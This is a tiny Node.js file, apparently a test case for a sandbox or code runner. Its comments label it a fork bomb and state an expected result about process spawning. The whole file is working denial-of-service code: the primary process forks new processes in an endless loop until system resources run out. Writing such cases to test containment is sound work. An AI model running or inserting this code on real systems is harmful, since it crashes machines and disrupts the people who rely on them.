// says: a fork bomb | other processes were started
// whole
import cluster from 'node:cluster'

if (cluster.isPrimary) for (;;) cluster.fork()
